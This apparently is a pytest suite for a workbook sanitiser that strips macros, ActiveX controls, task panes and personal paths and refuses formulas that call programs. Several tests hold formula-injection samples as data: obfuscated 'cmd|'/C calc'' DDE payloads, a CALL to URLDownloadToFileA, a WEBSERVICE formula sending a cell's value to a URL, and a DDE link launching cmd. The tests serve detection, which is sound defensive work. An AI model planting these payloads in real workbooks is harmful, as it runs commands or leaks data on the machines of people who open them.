"""A workbook as it is handed in holds nothing that runs or calls out, and is refused where that is part of it."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable

import pytest

from tests.adapters.packages import OFFICE, unzipped
from tests.fixtures.corpus import BY_NAME
from tests.hostile.bases import RELATIONS, SHEET, TYPES, WORKBOOK, book, book_parts, book_with, relations
from tests.hostile.classes.code import CALLS
from xl_tools.adapters.ooxml.handed_in import embedded_in, without_macros
from xl_tools.adapters.read_file import read_bytes
from xl_tools.errors import UnreadableFile
from xl_tools.limits import limit


def handed_in(workbook: bytes) -> dict[str, bytes]:
    return unzipped(without_macros(workbook, (), "付議書.xlsx"))


def test_activex_controls_go_with_their_parts_and_form_controls_stay() -> None:
    before = unzipped(BY_NAME["controls.xlsm"].path.read_bytes())
    after = handed_in(BY_NAME["controls.xlsm"].path.read_bytes())
    assert any("activex" in name.lower() for name in before)
    assert not [name for name in after if "activex" in name.lower() or "vba" in name.lower()]
    assert not [
        name for name, part in after.items() if name.endswith((".xml", ".rels", ".vml")) and b"ctiveX" in part
    ]
    assert sum("ctrlProps" in name for name in after) == sum("ctrlProps" in name for name in before) > 0
    sheet = after["xl/worksheets/sheet1.xml"]
    # each control stands there twice: as a choice and without it
    assert sheet.count(b"<control ") == before["xl/worksheets/sheet1.xml"].count(b"<control ") - 2
    assert b'shapeId="1028"' not in sheet
    assert b"_s1028" not in after["xl/drawings/vmlDrawing9.vml"]
    referred = re.findall(rb'r:id="([^"]+)"', sheet)
    known = re.findall(rb'Id="([^"]+)"', after["xl/worksheets/_rels/sheet1.xml.rels"])
    assert set(referred) <= set(known)


@pytest.mark.parametrize("make", CALLS.values(), ids=CALLS)
def test_what_calls_programs_is_refused(make: Callable[[], bytes]) -> None:
    with pytest.raises(UnreadableFile, match="提出用にできません"):
        handed_in(make())


@pytest.mark.parametrize(
    "formula",
    [
        '"a|b!c"',
        "A1&amp;\"cmd|' /C calc'!A0\"",
        'HYPERLINK("http://example.lg.jp/","見本")',
        "'a|b'!A1",
        "[1]見本!A1",
    ],
)
def test_formulas_that_call_no_program_are_handed_in(formula: str) -> None:
    rows = f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>'
    assert read_bytes(without_macros(book(rows), (), "付議書.xlsx"), "付議書.xlsx").sheets[0].cells == {
        (1, 1): 1
    }


@pytest.mark.parametrize(
    "target, left",
    [
        ("file:///C:\\Users\\mihon.taro\\Desktop\\集計.xlsx", "集計.xlsx"),
        ("\\\\fs01\\個人\\見本太郎\\集計.xlsx", "集計.xlsx"),
        ("file:///Z:/%E8%A6%8B%E6%9C%AC%2F集計.xlsx", "集計.xlsx"),
        ("集計.xlsx", "集計.xlsx"),
        ("https://example.lg.jp/a/集計.xlsx", "https://example.lg.jp/a/集計.xlsx"),
    ],
)
def test_links_to_other_workbooks_forget_whose_folder_it_was(target: str, left: str) -> None:
    workbook = book_with(
        {
            RELATIONS: relations(
                ("rId1", f"{OFFICE}/worksheet", "worksheets/sheet1.xml"),
                ("rId2", f"{OFFICE}/externalLink", "externalLinks/externalLink1.xml"),
            ),
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                ("rId1", f"{OFFICE}/externalLinkPath", target), external=True
            ),
        }
    )
    after = handed_in(workbook)["xl/externalLinks/_rels/externalLink1.xml.rels"]
    assert after == relations(("rId1", f"{OFFICE}/externalLinkPath", left), external=True)


def test_what_the_workbook_does_not_lead_to_is_left_behind() -> None:
    sheet = relations(("rId1", f"{OFFICE}/image", "../media/%E5%9B%B3%201.png#x"))
    reached = {"xl/media/図 1.png": b"\x89PNG", "xl/worksheets/_rels/sheet1.xml.rels": sheet}
    left = {
        "xl/secret.txt": b"090-1234-5678",
        "xl/media/old.png": b"\x89PNG",
        "xl/media/_rels/old.png.rels": sheet,
        "customXml/item1.xml": b"<a/>",
    }
    workbook = book_with(reached | left)
    after = handed_in(workbook)
    assert {name: after[name] for name in reached} == reached
    assert set(unzipped(workbook)) - set(after) == set(left)


def test_comments_of_the_archive_are_left_behind() -> None:
    whole = io.BytesIO(book())
    with zipfile.ZipFile(whole, "a") as archive:
        archive.comment = b"090-1234-5678"
        for each in archive.infolist():
            each.comment = "携帯 090-1234-5678".encode()
    after = without_macros(whole.getvalue(), (), "付議書.xlsx")
    assert b"090-1234-5678" in whole.getvalue()
    assert b"090-1234-5678" not in after
    assert unzipped(after) == handed_in(book())


def test_a_workbook_without_any_of_it_keeps_its_bytes() -> None:
    parts = book_parts()
    after = handed_in(book())
    assert {name: after[name] for name in (SHEET, WORKBOOK)} == {
        name: parts[name] for name in (SHEET, WORKBOOK)
    }


@pytest.mark.parametrize(
    "formula",
    [
        "<f><![CDATA[cmd|'/C calc'!A0]]></f>",
        "<f>cmd<!-- -->|'/C calc'!A0</f>",
        "<f>cmd<?x?>&#124;'/C calc'!A0</f>",
        "<f>cmd_x007C_'/C calc'!A0</f>",
        "<f bx=\">\">cmd|'/C calc'!A0</f>",
        "<f>'cmd'|'/C calc'!A0</f>",
        '<f>SUM(1)+rtd ("a.b","","c")</f>',
        '<f>_xlfn.WEBSERVICE("http://example.lg.jp/"&amp;A1)</f>',
        '<f>_xlfn.IMAGE("https://example.lg.jp/1.png")</f>',
        '<f>CALL("urlmon","URLDownloadToFileA","JJCCJJ")</f>',
    ],
)
def test_a_call_is_seen_however_it_is_written(formula: str) -> None:
    with pytest.raises(UnreadableFile, match="提出用にできません"):
        handed_in(book(f'<row r="1"><c r="A1">{formula}<v>1</v></c></row>'))


@pytest.mark.parametrize("formula", ["SUM(表1[数量|単価])", "IF(A1=\"RTD(\",'CALL(1)'!A1,1)", "RECALL(1)"])
def test_bars_and_names_that_call_nothing_are_handed_in(formula: str) -> None:
    handed_in(book(f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>'))


def test_a_link_that_calls_is_found_wherever_its_part_lies() -> None:
    related = relations(
        ("rId1", f"{OFFICE}/worksheet", "worksheets/sheet1.xml"),
        ("e", f"{OFFICE}/externalLink", "見本/a.bin"),
    )
    link = '<あ:externalLink xmlns:あ="m"><あ:ddeLink ddeService="cmd" ddeTopic="/c calc"/></あ:externalLink>'
    with pytest.raises(UnreadableFile, match="のリンクに"):
        handed_in(book_with({RELATIONS: related, "xl/見本/a.bin": link.encode()}))


def test_the_workbook_forgets_where_it_lay() -> None:
    place = (
        b'<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        b'<mc:Choice Requires="x15"><x15ac:absPath url="C:\\Users\\mihon.taro\\" xmlns:x15ac="x"/></mc:Choice>'
        b"</mc:AlternateContent>"
    )
    before = book_parts()[WORKBOOK]
    after = handed_in(book_with({WORKBOOK: before.replace(b"<sheets>", place + b"<sheets>")}))
    assert after[WORKBOOK] == before


def test_task_panes_of_programs_go_with_all_their_parts() -> None:
    panes = "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
    package = relations(
        ("rId1", f"{OFFICE}/officeDocument", "xl/workbook.xml"),
        ("p", panes, "xl/webextensions/taskpanes.xml"),
    )
    after = handed_in(
        book_with(
            {
                "_rels/.rels": package,
                "xl/webextensions/taskpanes.xml": b"<a/>",
                "xl/webextensions/_rels/taskpanes.xml.rels": relations(
                    ("rId1", "x/webextension", "webextension1.xml")
                ),
                "xl/webextensions/webextension1.xml": b"<a/>",
            }
        )
    )
    assert not [name for name in after if "webextension" in name]
    assert b"taskpanes" not in after["_rels/.rels"]


def test_a_part_that_refers_to_the_whole_package_takes_no_longer_than_its_parts() -> None:
    """A chain as long as a package may be, from a control, and back to the list of types."""
    count = limit("archive_parts") // 2
    names = [f"xl/activeX/a{number}.xml" for number in range(count)]
    chain = {
        f"xl/activeX/_rels/a{number}.xml.rels": relations(("rId1", f"{OFFICE}/control", f"a{number + 1}.xml"))
        for number in range(count // 2)
    }
    chain[f"xl/activeX/_rels/a{count // 2 - 1}.xml.rels"] = relations(
        ("rId1", f"{OFFICE}/control", "../../[Content_Types].xml")
    )
    parts = dict.fromkeys(names[: count // 2], b"<a/>")
    sheet = relations(("rId9", f"{OFFICE}/control", "../activeX/a0.xml"))
    after = handed_in(book_with({**parts, **chain, "xl/worksheets/_rels/sheet1.xml.rels": sheet}))
    assert not [name for name in after if "activeX" in name]
    assert TYPES in after


@pytest.mark.parametrize(
    "fixture, sheets", [("data_rich.xlsx", 1), ("excel_rich.xlsx", 0), ("controls.xlsm", 0)]
)
def test_sheets_that_hold_other_files_are_named(fixture: str, sheets: int) -> None:
    assert len(embedded_in(BY_NAME[fixture].path.read_bytes(), fixture)) == sheets
